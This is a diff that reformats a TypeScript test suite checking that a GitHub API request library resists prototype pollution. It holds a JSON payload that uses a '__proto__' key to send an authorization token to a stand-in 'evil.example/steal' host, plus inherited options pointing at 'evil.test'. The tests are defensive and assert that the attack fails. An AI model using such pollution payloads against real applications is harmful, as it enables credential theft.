@@ -16,7 +16,8 @@ const api = loose(endpoint);
 const BASE = "https://api.github.com";
 
 describe('a JSON "__proto__" key is an ordinary own key', () => {
-  const STEAL = '{"headers":{"authorization":"token S"},"__proto__":{"url":"https://evil.example/steal","method":"POST"}}';
+  const STEAL =
+    '{"headers":{"authorization":"token S"},"__proto__":{"url":"https://evil.example/steal","method":"POST"}}';
 
   test("a token in .defaults() is never sent to a host hidden under __proto__", () => {
     const stealing = api.defaults(JSON.parse(STEAL));
@@ -51,7 +52,10 @@ describe('a JSON "__proto__" key is an ordinary own key', () => {
   });
 
   test("defaults and a call treat a __proto__ header, parameter and request key identically", () => {
-    const input = () => JSON.parse('{"headers": {"__proto__": "h"}, "__proto__": {"a": 1}, "request": {"__proto__": {"b": 2}}}') as object;
+    const input = () =>
+      JSON.parse(
+        '{"headers": {"__proto__": "h"}, "__proto__": {"a": 1}, "request": {"__proto__": {"b": 2}}}',
+      ) as object;
     const perCall = api("POST /x", input());
     const viaDefaults = api.defaults(input())("POST /x");
     expect(viaDefaults).toStrictEqual(perCall);
@@ -80,15 +84,58 @@ describe('a JSON "__proto__" key is an ordinary own key', () => {
 describe("only own properties are read: a polluted Object.prototype is never an option", () => {
   type Row = [label: string, run: () => unknown, check: (value: unknown) => void];
   const ROWS: Row[] = [
-    ["merge() of a URL-only route keeps the default method", () => api.merge("/x"), (merged) => expect((merged as { method: string }).method).toBe("GET")],
-    ["endpoint() of a URL-only route keeps the default method", () => api("/x"), (result) => expect(result).toMatchObject({ method: "GET", url: `${BASE}/x` })],
-    ["merge({}) sets no url", () => api.merge({}), (merged) => expect(Object.keys(merged as object)).not.toContain("url")],
-    ["merge({ url }) reads no method", () => api.merge({ url: "/x" }), (merged) => expect((merged as { method: string }).method).toBe("GET")],
-    ["mediaType reads no inherited format or previews", () => api("GET /x", { mediaType: {} }), (result) => expect((result as RequestOptions).headers.accept).toBe(endpoint.DEFAULTS.headers.accept)],
-    ["merge() reads no inherited mediaType fields", () => api.merge({ url: "/x", mediaType: { previews: [] } }), (merged) => expect((merged as { mediaType: unknown }).mediaType).toStrictEqual({ format: "", previews: [] })],
-    ["defaults() copies no inherited option", () => api.defaults({ per_page: 1 }).DEFAULTS, (defaults) => expect(Object.keys(defaults as object).sort()).toEqual(["baseUrl", "headers", "mediaType", "method", "per_page"])],
-    ["a POST sends only own parameters", () => api("POST /x", { a: 1 }), (result) => expect((result as RequestOptions).body).toStrictEqual({ a: 1 })],
-    ["toFetchArgs reads no inherited body", () => toFetchArgs({ method: "GET", url: `${BASE}/x`, headers: {} }), (args) => expect(args).toStrictEqual([`${BASE}/x`, { method: "GET", headers: {} }])],
+    [
+      "merge() of a URL-only route keeps the default method",
+      () => api.merge("/x"),
+      (merged) => expect((merged as { method: string }).method).toBe("GET"),
+    ],
+    [
+      "endpoint() of a URL-only route keeps the default method",
+      () => api("/x"),
+      (result) => expect(result).toMatchObject({ method: "GET", url: `${BASE}/x` }),
+    ],
+    [
+      "merge({}) sets no url",
+      () => api.merge({}),
+      (merged) => expect(Object.keys(merged as object)).not.toContain("url"),
+    ],
+    [
+      "merge({ url }) reads no method",
+      () => api.merge({ url: "/x" }),
+      (merged) => expect((merged as { method: string }).method).toBe("GET"),
+    ],
+    [
+      "mediaType reads no inherited format or previews",
+      () => api("GET /x", { mediaType: {} }),
+      (result) => expect((result as RequestOptions).headers.accept).toBe(endpoint.DEFAULTS.headers.accept),
+    ],
+    [
+      "merge() reads no inherited mediaType fields",
+      () => api.merge({ url: "/x", mediaType: { previews: [] } }),
+      (merged) => expect((merged as { mediaType: unknown }).mediaType).toStrictEqual({ format: "", previews: [] }),
+    ],
+    [
+      "defaults() copies no inherited option",
+      () => api.defaults({ per_page: 1 }).DEFAULTS,
+      (defaults) =>
+        expect(Object.keys(defaults as object).sort()).toEqual([
+          "baseUrl",
+          "headers",
+          "mediaType",
+          "method",
+          "per_page",
+        ]),
+    ],
+    [
+      "a POST sends only own parameters",
+      () => api("POST /x", { a: 1 }),
+      (result) => expect((result as RequestOptions).body).toStrictEqual({ a: 1 }),
+    ],
+    [
+      "toFetchArgs reads no inherited body",
+      () => toFetchArgs({ method: "GET", url: `${BASE}/x`, headers: {} }),
+      (args) => expect(args).toStrictEqual([`${BASE}/x`, { method: "GET", headers: {} }]),
+    ],
   ];
 
   test.each(ROWS)("%s", (_, run, check) => {
@@ -99,9 +146,21 @@ describe("only own properties are read: a polluted Object.prototype is never an 
   });
 
   test.each<[string, () => unknown, EndpointErrorCode]>([
-    ["toFetchArgs of a result without its own method", () => toFetchArgs({ url: `${BASE}/x`, headers: {} } as never), "ERR_INVALID_OPTION"],
-    ["toFetchArgs of a result without its own url", () => toFetchArgs({ method: "GET", headers: {} } as never), "ERR_INVALID_OPTION"],
-    ["toFetchArgs of a result without its own headers", () => toFetchArgs({ method: "GET", url: `${BASE}/x` } as never), "ERR_INVALID_OPTION"],
+    [
+      "toFetchArgs of a result without its own method",
+      () => toFetchArgs({ url: `${BASE}/x`, headers: {} } as never),
+      "ERR_INVALID_OPTION",
+    ],
+    [
+      "toFetchArgs of a result without its own url",
+      () => toFetchArgs({ method: "GET", headers: {} } as never),
+      "ERR_INVALID_OPTION",
+    ],
+    [
+      "toFetchArgs of a result without its own headers",
+      () => toFetchArgs({ method: "GET", url: `${BASE}/x` } as never),
+      "ERR_INVALID_OPTION",
+    ],
   ])("%s throws instead of reading the polluted value", (_, run, code) => {
     const { error } = polluted(POLLUTION, run);
     expect(error).toBeInstanceOf(EndpointError);
@@ -111,13 +170,25 @@ describe("only own properties are read: a polluted Object.prototype is never an 
 
 describe("only own properties are read: options whose own prototype carries options", () => {
   const inheriting = <T extends object>(own: T) =>
-    Object.assign(Object.create({ url: "https://evil.test/", method: "DELETE", baseUrl: "https://evil.test", headers: { "x-evil": "1" }, data: "evil", format: "raw" }) as object, own) as T;
+    Object.assign(
+      Object.create({
+        url: "https://evil.test/",
+        method: "DELETE",
+        baseUrl: "https://evil.test",
+        headers: { "x-evil": "1" },
+        data: "evil",
+        format: "raw",
+      }) as object,
+      own,
+    ) as T;
 
   test("in the options, defaults, headers and mediaType, inherited keys are not there", () => {
     expect(api.merge("/x", inheriting({ a: 1 }))).toStrictEqual({ ...api.merge("/x"), a: 1 });
     expectEndpointError(() => api(inheriting({})), "ERR_MISSING_URL");
     expect(api.defaults(inheriting({ per_page: 1 })).DEFAULTS).toStrictEqual({ ...endpoint.DEFAULTS, per_page: 1 });
-    expect(api("POST /x", { headers: inheriting({ "x-a": "1" }), mediaType: inheriting({}) })).toStrictEqual(endpoint("POST /x", { headers: { "x-a": "1" } }));
+    expect(api("POST /x", { headers: inheriting({ "x-a": "1" }), mediaType: inheriting({}) })).toStrictEqual(
+      endpoint("POST /x", { headers: { "x-a": "1" } }),
+    );
   });
 });
 
@@ -159,7 +230,9 @@ describe("prototype pollution", () => {
     expect(() => api("GET /x/{constructor}", {})).toThrow('Missing parameter "constructor"');
     expect(() => api("GET /x/{__proto__}", {})).toThrow('Missing parameter "__proto__"');
     expect(() => api("GET /x/{toString}", {})).toThrow('Missing parameter "toString"');
-    expect(api("GET /x/{__proto__}/{prototype}", JSON.parse('{"__proto__": "a", "prototype": "b"}')).url).toBe(`${BASE}/x/a/b`);
+    expect(api("GET /x/{__proto__}/{prototype}", JSON.parse('{"__proto__": "a", "prototype": "b"}')).url).toBe(
+      `${BASE}/x/a/b`,
+    );
   });
 
   test("as list and map values", () => {
